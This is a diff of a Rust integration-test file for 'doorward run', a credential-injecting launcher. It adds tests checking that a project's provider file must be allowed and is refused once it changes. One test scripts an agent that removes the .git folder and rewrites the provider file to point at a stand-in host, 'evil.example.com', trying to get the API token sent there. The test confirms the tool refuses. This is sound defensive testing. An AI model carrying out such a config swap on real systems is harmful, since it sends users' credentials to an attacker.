@@ -1,70 +1,14 @@
 //! `doorward run -- CMD`: what the program gets, and what comes back.
 
-use std::path::Path;
 use std::process::Stdio;
 
-use harness::ca::TestCa;
 use harness::{Origin, binary::doorward, canary, within};
 use rustix::process::{Pid, Signal, kill_process};
-use tempfile::TempDir;
 use tokio::io::{AsyncBufReadExt, BufReader};
 use tokio::process::{Child, Command};
 
+use crate::home::Home;
 use crate::world::HOST;
-
-/// A home with one provider, and what `run` needs to reach the origin.
-struct Home {
-    folder: TempDir,
-    secret: String,
-}
-
-impl Home {
-    fn new() -> Self {
-        let (folder, secret) = (tempfile::tempdir().unwrap(), canary::fresh());
-        let at = |name: &str| folder.path().join(name);
-        std::fs::create_dir_all(at("secrets/canary")).unwrap();
-        std::fs::create_dir_all(at("tmp")).unwrap();
-        std::fs::write(at("secrets/canary/token"), &secret).unwrap();
-        std::fs::write(at("ca.pem"), TestCa::world().pem()).unwrap();
-        let provider = format!(
-            "apiVersion: doorward.dev/v1alpha1\nkind: Provider\nmetadata: {{name: demo}}\nspec:\n  type: http-token\n  host: {HOST}\n  \
-             auth: {{type: bearer, secretRef: canary, secretKey: token, agentEnvVar: API_TOKEN}}\n"
-        );
-        std::fs::write(at("demo.yaml"), provider).unwrap();
-        Self { folder, secret }
-    }
-
-    fn path(&self) -> &Path {
-        self.folder.path()
-    }
-
-    /// `doorward run` with these words, in an environment that holds a real credential.
-    fn run(&self, words: &[&str]) -> Command {
-        let mut command = Command::new(doorward());
-        command
-            .arg("--home")
-            .arg(self.path().join("home"))
-            .arg("run")
-            .arg("--providers")
-            .arg(self.path().join("demo.yaml"));
-        command.args(words).env_clear();
-        command
-            .env("PATH", "/usr/bin:/bin")
-            .env("API_TOKEN", &self.secret)
-            .env("TMPDIR", self.path().join("tmp"));
-        command.env("DOORWARD_SECRETS", self.path().join("secrets"));
-        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).kill_on_drop(true);
-        command
-    }
-
-    async fn output(&self, words: &[&str]) -> (Option<i32>, String, String) {
-        let output = within("doorward run", self.run(words).output()).await.unwrap();
-        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
-        assert_eq!(std::fs::read_dir(self.path().join("tmp")).unwrap().count(), 0, "something stayed behind");
-        assert_eq!(canary::search(&output.stderr, &self.secret), None);
-        (output.status.code(), text(&output.stdout), text(&output.stderr))
-    }
-}
 
 /// Sends a signal.
 pub fn signal(child: &Child, signal: Signal) {
@@ -87,6 +31,70 @@ async fn refuses_to_start_without_a_whole_provider_file() {
     let (code, _, complaints) = home.output(&["--", "sh", "-c", "echo ran"]).await;
     assert_eq!(code, Some(1));
     assert!(complaints.contains("demo.yaml:1:1"), "{complaints}");
+}
+
+/// Its folder becomes a project, whose provider file is therefore not the user's word.
+fn make_a_project(home: &Home) {
+    std::fs::create_dir(home.path().join(".git")).unwrap();
+}
+
+async fn allow(home: &Home) {
+    let mut command = Command::new(doorward());
+    command.arg("--home").arg(home.path().join("home")).arg("allow").arg(home.path().join("demo.yaml"));
+    assert!(within("allow", command.env_clear().output()).await.unwrap().status.success());
+}
+
+#[tokio::test]
+async fn refuses_a_projects_provider_file_until_it_is_allowed_and_when_it_has_changed() {
+    let home = Home::new();
+    make_a_project(&home);
+    let file = home.path().join("demo.yaml").canonicalize().unwrap();
+    let command = format!("doorward allow {}", file.display());
+    let (code, printed, complaints) = home.output(&["--", "sh", "-c", "echo ran"]).await;
+    assert_eq!((code, printed.as_str()), (Some(1), ""));
+    assert!(complaints.contains("demo.yaml:1:1: lies in the project folder"), "{complaints}");
+    assert!(complaints.contains(&command), "{complaints}");
+    allow(&home).await;
+    assert_eq!(home.output(&["--", "sh", "-c", "echo ran"]).await.1, "ran\n");
+    let text = std::fs::read_to_string(&file).unwrap();
+    std::fs::write(&file, text.replace(HOST, "evil.example.com")).unwrap();
+    let (code, printed, complaints) = home.output(&["--", "sh", "-c", "echo ran"]).await;
+    assert_eq!((code, printed.as_str()), (Some(1), ""));
+    assert!(complaints.contains("demo.yaml:1:1: has changed since it was allowed"), "{complaints}");
+    assert!(complaints.contains(&command), "{complaints}");
+}
+
+#[tokio::test]
+async fn an_agent_that_rewrites_its_projects_provider_file_gains_nothing() {
+    const EVIL: &str = "evil.example.com";
+    let (home, origin) = (Home::new(), Origin::start(EVIL).await);
+    make_a_project(&home);
+    allow(&home).await;
+    let file = home.path().join("demo.yaml");
+    let text = std::fs::read_to_string(&file).unwrap().replace(HOST, EVIL);
+    std::fs::write(home.path().join("evil"), text).unwrap();
+    // Even one that takes the project's mark away first.
+    let at = home.path().display();
+    let ask = format!("{} demo-client GET https://{EVIL}/ API_TOKEN", doorward().display());
+    let script = format!("rm -r {at}/.git && mv {at}/evil {at}/demo.yaml; read answer; {ask}");
+    let mut command = home.run(&["--", "sh", "-c", &script]);
+    home.towards(&mut command, &origin);
+    command.env("DOORWARD_RESOLVE", format!("{EVIL}:443:{}", origin.address())).stdin(Stdio::piped());
+    let mut run = command.spawn().unwrap();
+    let mut log = BufReader::new(run.stderr.take().unwrap()).lines();
+    let refused = async {
+        while let Some(line) = log.next_line().await.unwrap() {
+            if line.contains("has changed since it was allowed") {
+                return true;
+            }
+        }
+        false
+    };
+    assert!(within("the refusal in the log", refused).await);
+    drop(run.stdin.take());
+    let ended = within("its end", run.wait_with_output()).await.unwrap();
+    assert!(String::from_utf8_lossy(&ended.stdout).contains("DW1001"), "{ended:?}");
+    origin.assert_untouched();
 }
 
 #[tokio::test]
@@ -129,10 +137,7 @@ async fn the_programs_request_gets_the_credential_that_it_does_not_hold() {
     let url = format!("https://{HOST}/v1/user");
     let mut command =
         home.run(&["--", doorward().to_str().unwrap(), "demo-client", "GET", &url, "API_TOKEN"]);
-    command
-        .env("DOORWARD_UPSTREAM_CA", home.path().join("ca.pem"))
-        .env("DOORWARD_ALLOW_CIDR", "127.0.0.1/32");
-    command.env("DOORWARD_RESOLVE", format!("{HOST}:443:{}", origin.address()));
+    home.towards(&mut command, &origin);
     let output = within("doorward run", command.output()).await.unwrap();
     assert!(output.stdout.starts_with(b"HTTP/1.1 200"), "{output:?}");
     assert_eq!(origin.only().header("authorization"), Some(format!("Bearer {}", home.secret).as_str()));
@@ -165,4 +170,28 @@ async fn the_proxy_ends_even_when_the_launcher_is_killed() {
         std::net::TcpStream::connect(&address).is_err().then_some(())
     })
     .await;
+}
+
+#[tokio::test]
+async fn removes_what_a_killed_launcher_left_behind_and_nothing_that_is_in_use() {
+    let home = Home::new();
+    let folders = || std::fs::read_dir(home.path().join("tmp")).unwrap().count();
+    let mut used = home.run(&["--", "sh", "-c", "echo up; cat; head -n 1 $SSL_CERT_FILE"]);
+    let mut used = used.stdin(Stdio::piped()).spawn().unwrap();
+    let mut lines = BufReader::new(used.stdout.take().unwrap()).lines();
+    assert_eq!(within("the program", lines.next_line()).await.unwrap().as_deref(), Some("up"));
+    let mut killed = home.run(&["--", "sh", "-c", "echo up; exec sleep 10"]).spawn().unwrap();
+    let mut up = BufReader::new(killed.stdout.take().unwrap()).lines();
+    assert_eq!(within("the program", up.next_line()).await.unwrap().as_deref(), Some("up"));
+    killed.kill().await.unwrap();
+    assert_eq!(folders(), 2);
+    let next = within("doorward run", home.run(&["--", "true"]).output()).await.unwrap();
+    assert!(next.status.success(), "{next:?}");
+    assert_eq!(folders(), 1);
+    // What is in use is whole.
+    drop(used.stdin.take());
+    let bundle = within("the bundle", lines.next_line()).await.unwrap();
+    assert!(bundle.is_some_and(|line| line.contains("BEGIN CERTIFICATE")));
+    within("its end", used.wait()).await.unwrap();
+    assert_eq!(folders(), 0);
 }
